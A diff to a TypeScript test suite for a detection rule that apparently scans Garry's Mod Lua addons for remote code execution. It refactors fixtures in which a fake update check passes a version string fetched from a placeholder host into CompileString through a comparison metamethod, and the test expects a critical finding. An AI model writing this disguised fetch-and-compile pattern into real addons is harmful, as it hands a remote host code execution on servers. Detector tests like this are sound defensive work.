@@ -4,6 +4,33 @@ import { rule as datafileExecution } from './datafile_execution.js';
 import { rule } from './runstring.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
+/**
+ * An update check comparing the shipped version with the one a web host serves, through a
+ * version object whose `__lt` parses both with `parse` (the body of `parts(v)`).
+ */
+function versionCheck(parse: string): Record<string, string> {
+  return {
+    'lua/autorun/server/sv_x.lua': [
+      'local meta = {}',
+      'local function parts(v)',
+      `  ${parse}`,
+      'end',
+      'meta.__lt = function(a, b)',
+      '  local pa, pb = parts(a), parts(b)',
+      '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
+      '  return false',
+      'end',
+      'local function Version(s) return setmetatable({ raw = s }, meta) end',
+      'timer.Simple(5, function()',
+      '  http.Fetch("https://upd.x.invalid/version", function(body)',
+      '    if Version("1.2.0") >= Version(body) then return end',
+      '    print("update available")',
+      '  end)',
+      'end)',
+    ].join('\n'),
+  };
+}
+
 describe('runstring', () => {
   it('http.Fetch body run by RunString', () => {
     const findings = check(rule, {
@@ -524,49 +551,21 @@ describe('runstring', () => {
     expect(findings).toEqual([]);
   });
   it('a remote version compared through __lt, which compiles what it parses', () => {
-    const findings = check(rule, {
-      'lua/autorun/server/sv_x.lua': [
-        'local meta = {}',
-        'local function parts(v)',
-        '  return CompileString("return { " .. string.gsub(v.raw, "%.", ",") .. " }", "v", false)()',
-        'end',
-        'meta.__lt = function(a, b)',
-        '  local pa, pb = parts(a), parts(b)',
-        '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
-        '  return false',
-        'end',
-        'local function Version(s) return setmetatable({ raw = s }, meta) end',
-        'timer.Simple(5, function()',
-        '  http.Fetch("https://upd.x.invalid/version", function(body)',
-        '    if Version("1.2.0") >= Version(body) then return end',
-        '    print("update available")',
-        '  end)',
-        'end)',
-      ].join('\n'),
-    });
+    const findings = check(
+      rule,
+      versionCheck(
+        'return CompileString("return { " .. string.gsub(v.raw, "%.", ",") .. " }", "v", false)()',
+      ),
+    );
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
   it('a remote version compared through __lt, which splits it into numbers (benign)', () => {
-    const findings = check(rule, {
-      'lua/autorun/server/sv_x.lua': [
-        'local meta = {}',
-        'local function parts(v)',
-        '  local t = {} for n in string.gmatch(v.raw, "%d+") do t[#t + 1] = tonumber(n) end return t',
-        'end',
-        'meta.__lt = function(a, b)',
-        '  local pa, pb = parts(a), parts(b)',
-        '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
-        '  return false',
-        'end',
-        'local function Version(s) return setmetatable({ raw = s }, meta) end',
-        'timer.Simple(5, function()',
-        '  http.Fetch("https://upd.x.invalid/version", function(body)',
-        '    if Version("1.2.0") >= Version(body) then return end',
-        '    print("update available")',
-        '  end)',
-        'end)',
-      ].join('\n'),
-    });
+    const findings = check(
+      rule,
+      versionCheck(
+        'local t = {} for n in string.gmatch(v.raw, "%d+") do t[#t + 1] = tonumber(n) end return t',
+      ),
+    );
     expect(findings).toEqual([]);
   });
   it('a web reply kept in a networked global that every client compiles', () => {
